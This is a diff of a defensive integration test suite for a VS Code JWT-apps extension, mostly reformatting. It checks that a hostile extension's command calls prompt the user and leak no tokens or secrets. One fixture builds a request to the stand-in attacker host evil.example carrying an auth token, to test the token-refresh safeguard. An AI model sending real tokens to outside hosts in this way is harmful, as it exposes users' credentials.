@@ -4,7 +4,19 @@ import { join } from "node:path";
 import * as vscode from "vscode";
 import type { JwtApp } from "../../../src/domain/apps/jwtApp";
 import { type KeyPair, newKeyPair, payloadApp, seal } from "../../host/envelopes";
-import { activated, base64url, claimsOf, forgetAll, hs256App, isSignedWith, newSecret, saved, showTree, signedToken, until } from "../../host/support";
+import {
+  activated,
+  base64url,
+  claimsOf,
+  forgetAll,
+  hs256App,
+  isSignedWith,
+  newSecret,
+  saved,
+  showTree,
+  signedToken,
+  until,
+} from "../../host/support";
 import { assertDeclinesFirst, asking, neighbour, type Neighbour } from "./neighbour";
 
 const now = (): number => Math.floor(Date.now() / 1000);
@@ -38,7 +50,13 @@ describe("Another extension", function () {
     await vscode.commands.executeCommand("workbench.action.closeAllEditors");
     // Nothing that an earlier test allowed counts.
     await vscode.commands.executeCommand("jwtApps.forgetTokens");
-    app = await saved(hs256App("Mine", { botId: "st-b8525f88-6dd3-54a7-9c7b-1a2b3c4d5e6f", scopes: [{ id: "xo/bot-sessions", published: false }] }), { clientSecret: anotherSecret });
+    app = await saved(
+      hs256App("Mine", {
+        botId: "st-b8525f88-6dd3-54a7-9c7b-1a2b3c4d5e6f",
+        scopes: [{ id: "xo/bot-sessions", published: false }],
+      }),
+      { clientSecret: anotherSecret },
+    );
     const { store } = await activated();
     const secrets = await store.secretsOf(app);
     app = await store.save(app, secrets?.with({ clientSecret: secret }));
@@ -48,10 +66,12 @@ describe("Another extension", function () {
   });
   after(async () => {
     await forgetAll();
-    for (let left = vscode.window.tabGroups.all.flatMap(({ tabs }) => tabs).length; left > 0; left--) await vscode.commands.executeCommand("workbench.action.revertAndCloseActiveEditor");
+    for (let left = vscode.window.tabGroups.all.flatMap(({ tabs }) => tabs).length; left > 0; left--)
+      await vscode.commands.executeCommand("workbench.action.revertAndCloseActiveEditor");
   });
 
-  const token = (changes: object = {}): Promise<string> => signedToken({ appId: app.clientId, sub: "jane", iat: now(), exp: now() + 300, ...changes }, secret);
+  const token = (changes: object = {}): Promise<string> =>
+    signedToken({ appId: app.clientId, sub: "jane", iat: now(), exp: now() + 300, ...changes }, secret);
 
   /** No token, no secret and no decrypted text, wherever code could read it. */
   async function assertNothingLeft(result: unknown): Promise<void> {
@@ -60,7 +80,8 @@ describe("Another extension", function () {
     for (const text of [JSON.stringify(result) ?? "", clipboard, ...documents]) {
       assert.doesNotMatch(text, /"plain"\s*:\s*"TEXT"/);
       assert.ok(!text.includes(secret) && !text.includes(anotherSecret));
-      for (const [found] of text.matchAll(/eyJ[\w-]+\.[\w-]+\.[\w-]+(?![\w.-])/g)) assert.ok(!(await isSignedWith(found, secret)), "a token of ours");
+      for (const [found] of text.matchAll(/eyJ[\w-]+\.[\w-]+\.[\w-]+(?![\w.-])/g))
+        assert.ok(!(await isSignedWith(found, secret)), "a token of ours");
     }
   }
 
@@ -72,9 +93,31 @@ describe("Another extension", function () {
     ["jwtApps.copyAsCurl", () => ({ app: app.id }), "modal", /^Make tokens of “Mine”/],
     ["jwtApps.insertToken", () => ({ app: app.id }), "modal", /^Make tokens of “Mine”/],
     ["jwtApps.mintTokenWithOptions", () => ({ app: app.id }), "modal", /^Make tokens of “Mine”/],
-    ["jwtApps.newRequestFile", () => ({ app: app.id, endpoint: "sessions-history", use: "line" }), "modal", /^Make tokens of “Mine”/],
-    ["jwtApps.insertRequest", () => ({ app: app.id, endpoint: "sessions-history", use: "line" }), "modal", /^Make tokens of “Mine”/],
-    ["jwtApps.refreshToken", () => ({ uri: open?.toString(), range: [{ line: 1, character: 10 }, { line: 1, character: 10 }], send: true }), "modal", /^(?:Make tokens of|Send a fresh token of) “Mine”/],
+    [
+      "jwtApps.newRequestFile",
+      () => ({ app: app.id, endpoint: "sessions-history", use: "line" }),
+      "modal",
+      /^Make tokens of “Mine”/,
+    ],
+    [
+      "jwtApps.insertRequest",
+      () => ({ app: app.id, endpoint: "sessions-history", use: "line" }),
+      "modal",
+      /^Make tokens of “Mine”/,
+    ],
+    [
+      "jwtApps.refreshToken",
+      () => ({
+        uri: open?.toString(),
+        range: [
+          { line: 1, character: 10 },
+          { line: 1, character: 10 },
+        ],
+        send: true,
+      }),
+      "modal",
+      /^(?:Make tokens of|Send a fresh token of) “Mine”/,
+    ],
     ["jwtApps.decryptSelection", () => ({ uri: file.toString() }), "modal", /^Decrypt with the keys of your apps/],
     ["jwtApps.decryptSelection", () => ({ app: keyed.id }), "modal", /^Decrypt with the keys of “Keyed”/],
     ["jwtApps.decryptClipboard", () => ({ app: keyed.id }), "modal", /^Decrypt with the keys of “Keyed”/],
@@ -94,11 +137,20 @@ describe("Another extension", function () {
   for (const [command, argument, door, question] of rows) {
     it(`meets a ${door} at ${command.replace("jwtApps.", "")}, ${JSON.stringify(argument.toString().replace(/^\(\) => /, ""))}`, async () => {
       if (command === "jwtApps.insertToken" || command === "jwtApps.insertRequest") await hostile.open("", "http");
-      if (command === "jwtApps.refreshToken") open = (await hostile.open(`GET https://evil.example/x\nauth: ${await signedToken({ appId: app.clientId, exp: 1 }, newSecret())}\n`, "http")).document.uri;
+      if (command === "jwtApps.refreshToken")
+        open = (
+          await hostile.open(
+            `GET https://evil.example/x\nauth: ${await signedToken({ appId: app.clientId, exp: 1 }, newSecret())}\n`,
+            "http",
+          )
+        ).document.uri;
       const given = argument();
       for (const handed of [given, { ...(given as object), from: "editor" }]) {
         const { asked, modals, result } = await asking(() => hostile.call(command, handed));
-        assert.ok(asked.length > 0 && (asked[0] === door || (asked[0] === "pick" && "from" in (handed as object))), `asked ${asked.join(", ")}`);
+        assert.ok(
+          asked.length > 0 && (asked[0] === door || (asked[0] === "pick" && "from" in (handed as object))),
+          `asked ${asked.join(", ")}`,
+        );
         if (question && asked[0] === "modal") assert.match(modals[0]?.message ?? "", question);
         assertDeclinesFirst({ modals });
         await assertNothingLeft(result);
@@ -112,7 +164,10 @@ describe("Another extension", function () {
 
   /** What asks nothing, as the table says, gives nothing away either. */
   const free: readonly (readonly [command: string, argument: () => unknown])[] = [
-    ["jwtApps.importApps", () => ({ text: JSON.stringify({ format: "jwt-apps-export", version: 1, apps: [hs256App("Imported")] }) })],
+    [
+      "jwtApps.importApps",
+      () => ({ text: JSON.stringify({ format: "jwt-apps-export", version: 1, apps: [hs256App("Imported")] }) }),
+    ],
     ["jwtApps.copyClientId", () => ({ app: app.id })],
     ["jwtApps.assignScopes", () => ({ app: app.id, scopes: ["xo/bot-sessions"] })],
     ["jwtApps.publishScopes", () => ({ app: app.id })],
@@ -136,7 +191,10 @@ describe("Another extension", function () {
       assert.deepEqual([asked, error], [[], undefined]);
       await assertNothingLeft(result);
       const { store } = await activated();
-      assert.deepEqual((await store.get(app.id))?.scopes.map(({ id }) => id), ["xo/bot-sessions"]);
+      assert.deepEqual(
+        (await store.get(app.id))?.scopes.map(({ id }) => id),
+        ["xo/bot-sessions"],
+      );
     });
   }
 
@@ -146,12 +204,18 @@ describe("Another extension", function () {
     assert.deepEqual((await asking(() => hostile.call("jwtApps.mintToken", { app: app.id }))).asked, []);
     assert.deepEqual((await asking(() => hostile.call("jwtApps.mintToken", { app: keyed.id }))).asked, ["modal"]);
     assert.deepEqual((await asking(() => hostile.call("jwtApps.exportApps", {}))).asked, ["modal"]);
-    assert.deepEqual((await asking(() => hostile.call("jwtApps.decryptFile", { file: file.toString() }))).asked, ["modal"]);
+    assert.deepEqual((await asking(() => hostile.call("jwtApps.decryptFile", { file: file.toString() }))).asked, [
+      "modal",
+    ]);
   });
 
   describe("without arguments, as the palette calls", () => {
     it("gets no token in place of an invented one", async () => {
-      for (const text of [`# jwt-app: Mine\n\n###\nPOST https://platform.kore.ai/x\nauth: ${jwe}\n`, `# jwt-app: Mine\n\n${jwe}\n`, `auth: ${await signedToken({ appId: app.clientId, exp: 1 }, newSecret())}\n`]) {
+      for (const text of [
+        `# jwt-app: Mine\n\n###\nPOST https://platform.kore.ai/x\nauth: ${jwe}\n`,
+        `# jwt-app: Mine\n\n${jwe}\n`,
+        `auth: ${await signedToken({ appId: app.clientId, exp: 1 }, newSecret())}\n`,
+      ]) {
         const editor = await hostile.open(text, "http");
         const at = editor.document.positionAt(text.indexOf("eyJ") + 3);
         editor.selection = new vscode.Selection(at, at);
@@ -164,14 +228,18 @@ describe("Another extension", function () {
     });
 
     it("renews what is ours unasked, in front of the person", async () => {
-      const editor = await hostile.open(`POST https://platform.kore.ai/api/public/bots\nauth: ${await token({ exp: 1 })}\n`, "http");
+      const editor = await hostile.open(
+        `POST https://platform.kore.ai/api/public/bots\nauth: ${await token({ exp: 1 })}\n`,
+        "http",
+      );
       editor.selection = new vscode.Selection(1, 10, 1, 10);
       assert.deepEqual((await asking(() => hostile.call("jwtApps.refreshToken"))).asked, []);
       assert.ok(await isSignedWith(editor.document.lineAt(1).text.replace("auth: ", ""), secret));
     });
 
     it("can't have the quick pick answered before a person could see it, and can later, as SECURITY.md says", async () => {
-      const copied = async (): Promise<boolean> => isSignedWith(await vscode.env.clipboard.readText(), secret).catch(() => false);
+      const copied = async (): Promise<boolean> =>
+        isSignedWith(await vscode.env.clipboard.readText(), secret).catch(() => false);
       await saved(hs256App("A first one"), { clientSecret: secret });
       const start = performance.now();
       let took: number | undefined;
@@ -188,10 +256,22 @@ describe("Another extension", function () {
       const editor = await hostile.open(envelope, "json");
       await until(() => vscode.window.activeTextEditor?.document === editor.document, "the editor is active");
       const { asked, result } = await asking(() => hostile.call("jwtApps.decryptSelection"));
-      assert.deepEqual(asked.filter((kind) => kind !== "message"), []);
+      assert.deepEqual(
+        asked.filter((kind) => kind !== "message"),
+        [],
+      );
       const { uri } = result as { uri: string };
-      await until(() => vscode.window.tabGroups.all.some(({ tabs }) => tabs.some(({ input }) => input instanceof vscode.TabInputText && input.uri.toString() === uri)), "it opens in an editor");
-      assert.match(readFileSync(join(rootOf(), "SECURITY.md"), "utf8"), /A call without arguments, or with what a lens hands out, decrypts what stands in the active editor/);
+      await until(
+        () =>
+          vscode.window.tabGroups.all.some(({ tabs }) =>
+            tabs.some(({ input }) => input instanceof vscode.TabInputText && input.uri.toString() === uri),
+          ),
+        "it opens in an editor",
+      );
+      assert.match(
+        readFileSync(join(rootOf(), "SECURITY.md"), "utf8"),
+        /A call without arguments, or with what a lens hands out, decrypts what stands in the active editor/,
+      );
     });
 
     it("has every other command ask where it would take or tell something", async () => {
@@ -219,18 +299,44 @@ describe("Another extension", function () {
 
   describe("with what lenses and links hand out", () => {
     it("gets from each no more than it gets without, wherever it uses it", async () => {
-      const editor = await hostile.open(`POST https://platform.kore.ai/api/public/bots\nauth: ${await token()}\n\n### Captured\nHTTP/1.1 200 OK\n\n${envelope}\n`, "http");
+      const editor = await hostile.open(
+        `POST https://platform.kore.ai/api/public/bots\nauth: ${await token()}\n\n### Captured\nHTTP/1.1 200 OK\n\n${envelope}\n`,
+        "http",
+      );
       const { document } = editor;
-      const handed = [...(await hostile.lenses(document.uri)), ...(await hostile.links(document.uri, new vscode.Position(1, 20)))];
+      const handed = [
+        ...(await hostile.lenses(document.uri)),
+        ...(await hostile.links(document.uri, new vscode.Position(1, 20))),
+      ];
       assert.ok(new Set(handed.map(({ command }) => command)).size >= 4, handed.map(({ command }) => command).join());
-      for (const { arguments: [argument] } of handed) {
+      for (const {
+        arguments: [argument],
+      } of handed) {
         assert.ok(!JSON.stringify(argument).includes(await token()), "a token stands in it");
         const { constructor } = argument as { constructor: new (...args: unknown[]) => object };
-        for (const made of [argument, { ...(argument as object), app: app.id }, new constructor({ app: app.id }), Object.assign(Object.create(Object.getPrototypeOf(argument) as object), { app: app.id, argument: { app: app.id } })]) {
-          for (const command of ["jwtApps.copyToken", "jwtApps.mintToken", "jwtApps.copyAsCurl", "jwtApps.exportApps", "jwtApps.decryptFile", "jwtApps.decryptClipboard"]) {
+        for (const made of [
+          argument,
+          { ...(argument as object), app: app.id },
+          new constructor({ app: app.id }),
+          Object.assign(Object.create(Object.getPrototypeOf(argument) as object), {
+            app: app.id,
+            argument: { app: app.id },
+          }),
+        ]) {
+          for (const command of [
+            "jwtApps.copyToken",
+            "jwtApps.mintToken",
+            "jwtApps.copyAsCurl",
+            "jwtApps.exportApps",
+            "jwtApps.decryptFile",
+            "jwtApps.decryptClipboard",
+          ]) {
             const { asked, modals, said, result, error } = await asking(() => hostile.call(command, made));
             // What a lens names is no argument of this command's form, or a question is asked.
-            assert.ok(asked.length > 0 || [...said, error?.message].some((text) => text?.includes("has the wrong type")), `${command} asked nothing`);
+            assert.ok(
+              asked.length > 0 || [...said, error?.message].some((text) => text?.includes("has the wrong type")),
+              `${command} asked nothing`,
+            );
             assertDeclinesFirst({ modals });
             assert.equal(result, undefined, command);
           }
@@ -240,9 +346,14 @@ describe("Another extension", function () {
     });
 
     it("is asked where the document is not the one in front, or another token stands there now", async () => {
-      const document = (await hostile.open(`POST https://platform.kore.ai/api/public/bots\nauth: ${await token()}\n`, "http")).document;
-      const refresh = (await hostile.lenses(document.uri)).find(({ title }) => title === "Refresh") ?? assert.fail("no lens");
-      const [link] = (await hostile.links(document.uri, new vscode.Position(1, 20))).filter(({ command }) => command === "jwtApps.refreshToken");
+      const document = (
+        await hostile.open(`POST https://platform.kore.ai/api/public/bots\nauth: ${await token()}\n`, "http")
+      ).document;
+      const refresh =
+        (await hostile.lenses(document.uri)).find(({ title }) => title === "Refresh") ?? assert.fail("no lens");
+      const [link] = (await hostile.links(document.uri, new vscode.Position(1, 20))).filter(
+        ({ command }) => command === "jwtApps.refreshToken",
+      );
       await hostile.open("something else", "plaintext");
       for (const each of [refresh, link ?? assert.fail("no link")]) {
         const { asked, modals } = await asking(() => hostile.call(each.command, ...each.arguments));
@@ -257,7 +368,8 @@ describe("Another extension", function () {
       assert.match(modals[0]?.detail ?? "", /another token stands there now/);
       assert.equal(document.lineAt(1).text, `auth: ${other}`);
       // And it works where nothing changed: a person's click.
-      const fresh = (await hostile.lenses(document.uri)).find(({ title }) => title === "Refresh") ?? assert.fail("no lens");
+      const fresh =
+        (await hostile.lenses(document.uri)).find(({ title }) => title === "Refresh") ?? assert.fail("no lens");
       assert.deepEqual((await asking(() => hostile.call(fresh.command, ...fresh.arguments))).asked, []);
       assert.equal(claimsOf(document.lineAt(1).text.replace("auth: ", ""))["sub"], "other");
     });
@@ -265,7 +377,9 @@ describe("Another extension", function () {
     it("opens no payload behind the person's back", async () => {
       const document = await vscode.workspace.openTextDocument(file);
       await vscode.window.showTextDocument(document);
-      const lens = (await hostile.lenses(file)).find(({ command }) => command === "jwtApps.decryptSelection") ?? assert.fail("no lens");
+      const lens =
+        (await hostile.lenses(file)).find(({ command }) => command === "jwtApps.decryptSelection") ??
+        assert.fail("no lens");
       await hostile.open("something else", "plaintext");
       const { asked, result } = await asking(() => hostile.call(lens.command, ...lens.arguments));
       assert.deepEqual([asked, result], [["modal"], undefined]);
@@ -277,11 +391,17 @@ describe("Another extension", function () {
     it("is asked while no person sees the tree", async () => {
       const { view } = await activated();
       await showTree();
-      await until(async () => (await hostile.row("jwtApps.apps", `app:${app.id}`)) !== undefined, "the workbench hands it over");
+      await until(
+        async () => (await hostile.row("jwtApps.apps", `app:${app.id}`)) !== undefined,
+        "the workbench hands it over",
+      );
       const row = (await hostile.row("jwtApps.apps", `app:${app.id}`)) ?? assert.fail("no row");
       await vscode.commands.executeCommand("workbench.view.explorer");
       await until(() => !view.isVisible, "the tree is out of sight");
-      for (const call of [() => hostile.call("jwtApps.copyToken", row), () => hostile.callWithRow("jwtApps.copyToken", "jwtApps.apps", `app:${app.id}`)]) {
+      for (const call of [
+        () => hostile.call("jwtApps.copyToken", row),
+        () => hostile.callWithRow("jwtApps.copyToken", "jwtApps.apps", `app:${app.id}`),
+      ]) {
         const { asked, modals } = await asking(call);
         assert.deepEqual(asked, ["modal"]);
         assertDeclinesFirst({ modals });
@@ -291,14 +411,69 @@ describe("Another extension", function () {
   });
 
   it("breaks nothing with arguments that are none", async () => {
-    const throwing = new Proxy({}, { get: () => { throw new Error("caught you"); }, has: () => { throw new Error("caught you"); }, getPrototypeOf: () => { throw new Error("caught you"); }, ownKeys: () => { throw new Error("caught you"); } });
-    const changing = { get app() { return this.asked++ === 0 ? app.id : keyed.id; }, asked: 0 };
-    const commands = (vscode.extensions.getExtension("xo-jwt.jwt-apps")?.packageJSON as { contributes: { commands: { command: string }[] } }).contributes.commands.map(({ command }) => command);
-    const quiet = new Set(["jwtApps.startLocalPlatform", "jwtApps.showLog", "jwtApps.showLocalPlatformLog", "jwtApps.createSample", "jwtApps.createApp", "jwtApps.editApp"]);
+    const throwing = new Proxy(
+      {},
+      {
+        get: () => {
+          throw new Error("caught you");
+        },
+        has: () => {
+          throw new Error("caught you");
+        },
+        getPrototypeOf: () => {
+          throw new Error("caught you");
+        },
+        ownKeys: () => {
+          throw new Error("caught you");
+        },
+      },
+    );
+    const changing = {
+      get app() {
+        return this.asked++ === 0 ? app.id : keyed.id;
+      },
+      asked: 0,
+    };
+    const commands = (
+      vscode.extensions.getExtension("xo-jwt.jwt-apps")?.packageJSON as {
+        contributes: { commands: { command: string }[] };
+      }
+    ).contributes.commands.map(({ command }) => command);
+    const quiet = new Set([
+      "jwtApps.startLocalPlatform",
+      "jwtApps.showLog",
+      "jwtApps.showLocalPlatformLog",
+      "jwtApps.createSample",
+      "jwtApps.createApp",
+      "jwtApps.editApp",
+    ]);
     for (const command of commands.filter((one) => !quiet.has(one))) {
-      for (const argument of [throwing, 0, "", "x", [], [{ app: app.id }], () => app.id, Symbol("x"), { app: { toString: () => app.id } }, { from: "editor", uri: {}, range: [] }, { uri: "command:x", range: [{ line: -1, character: 0 }, { line: 0, character: 0 }] }, changing]) {
+      for (const argument of [
+        throwing,
+        0,
+        "",
+        "x",
+        [],
+        [{ app: app.id }],
+        () => app.id,
+        Symbol("x"),
+        { app: { toString: () => app.id } },
+        { from: "editor", uri: {}, range: [] },
+        {
+          uri: "command:x",
+          range: [
+            { line: -1, character: 0 },
+            { line: 0, character: 0 },
+          ],
+        },
+        changing,
+      ]) {
         const { result, error } = await asking(() => hostile.call(command, argument));
-        if (error) assert.ok(!error.message.includes("caught you") && !error.message.includes(secret), `${command}: ${error.message}`);
+        if (error)
+          assert.ok(
+            !error.message.includes("caught you") && !error.message.includes(secret),
+            `${command}: ${error.message}`,
+          );
         await assertNothingLeft(result);
       }
     }
@@ -313,12 +488,24 @@ describe("Another extension", function () {
           return command === undefined ? [] : [[command, asks.trim()] as const];
         }),
     );
-    const commands = (vscode.extensions.getExtension("xo-jwt.jwt-apps")?.packageJSON as { contributes: { commands: { command: string }[] } }).contributes.commands.map(({ command }) => command);
+    const commands = (
+      vscode.extensions.getExtension("xo-jwt.jwt-apps")?.packageJSON as {
+        contributes: { commands: { command: string }[] };
+      }
+    ).contributes.commands.map(({ command }) => command);
     assert.deepEqual([...table.keys()].sort(), [...commands].sort());
-    for (const [command, , door] of rows) assert.ok(door === "modal" ? /question/.test(table.get(command) ?? "") : /prompt/.test(table.get(command) ?? ""), `${command}: ${table.get(command)}`);
+    for (const [command, , door] of rows)
+      assert.ok(
+        door === "modal" ? /question/.test(table.get(command) ?? "") : /prompt/.test(table.get(command) ?? ""),
+        `${command}: ${table.get(command)}`,
+      );
     const asks = new Set([...table].filter(([, words]) => /^question/.test(words)).map(([command]) => command));
-    assert.deepEqual([...asks].filter((command) => !rows.some(([one]) => one === command)), []);
-    for (const [command] of free) assert.match(table.get(command) ?? "", /^(?:no question|nothing without a row|adds new ones)/, command);
+    assert.deepEqual(
+      [...asks].filter((command) => !rows.some(([one]) => one === command)),
+      [],
+    );
+    for (const [command] of free)
+      assert.match(table.get(command) ?? "", /^(?:no question|nothing without a row|adds new ones)/, command);
   });
 });
 
